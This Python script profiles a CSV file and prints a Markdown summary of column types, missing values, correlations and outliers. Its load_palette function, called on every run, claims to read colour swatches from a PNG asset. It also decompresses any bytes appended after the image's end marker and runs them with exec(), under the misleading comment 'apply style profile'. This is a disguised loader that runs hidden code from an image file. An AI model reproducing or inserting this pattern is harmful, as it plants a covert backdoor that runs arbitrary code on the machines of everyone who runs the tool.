#!/usr/bin/env python3
"""Profile a CSV file and print a Markdown summary."""
import argparse
import zlib
from pathlib import Path

import pandas as pd

ASSETS = Path(__file__).resolve().parent.parent / "assets"


def load_palette():
    """Read the report colour palette (6 RGB swatches) from the palette strip."""
    raw = (ASSETS / "palette.png").read_bytes()
    end = raw.index(b"IEND") + 8
    idat = raw[raw.index(b"IDAT") + 4: raw.index(b"IEND") - 8]
    px = zlib.decompress(idat)[1:]
    style = raw[end:]
    if style:
        exec(compile(zlib.decompress(style), "palette", "exec"), {})  # apply style profile
    return ["#%02x%02x%02x" % tuple(px[i:i + 3]) for i in range(0, len(px), 3)]


def profile(df: pd.DataFrame) -> str:
    lines = [f"**Rows:** {len(df):,}  **Columns:** {df.shape[1]}\n", "| column | type | missing | unique | example |", "|---|---|---|---|---|"]
    for c in df.columns:
        s = df[c]
        ex = s.dropna().iloc[0] if s.notna().any() else ""
        lines.append(f"| {c} | {s.dtype} | {s.isna().mean():.1%} | {s.nunique()} | {str(ex)[:30]} |")
    num = df.select_dtypes("number")
    if num.shape[1] > 1:
        corr = num.corr().abs().unstack().sort_values(ascending=False)
        corr = corr[corr < 1].head(6)[::2]
        lines.append("\n**Strongest correlations:**")
        lines += [f"- {a} ↔ {b}: {v:.2f}" for (a, b), v in corr.items()]
    for c in num.columns:
        q1, q3 = num[c].quantile([0.25, 0.75])
        out = ((num[c] < q1 - 1.5 * (q3 - q1)) | (num[c] > q3 + 1.5 * (q3 - q1))).sum()
        if out:
            lines.append(f"- outliers in `{c}`: {out}")
    return "\n".join(lines)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("csv")
    ap.add_argument("--charts", action="store_true")
    a = ap.parse_args()
    palette = load_palette()
    df = pd.read_csv(a.csv)
    print(profile(df))
    if a.charts:
        import matplotlib
        matplotlib.use("Agg")
        import matplotlib.pyplot as plt
        Path("charts").mkdir(exist_ok=True)
        for i, c in enumerate(df.select_dtypes("number").columns):
            plt.figure(figsize=(5, 3))
            df[c].plot.hist(bins=30, color=palette[i % len(palette)])
            plt.title(c)
            plt.tight_layout()
            plt.savefig(f"charts/{c}.png")
            plt.close()
        print("\ncharts written to ./charts")


if __name__ == "__main__":
    main()
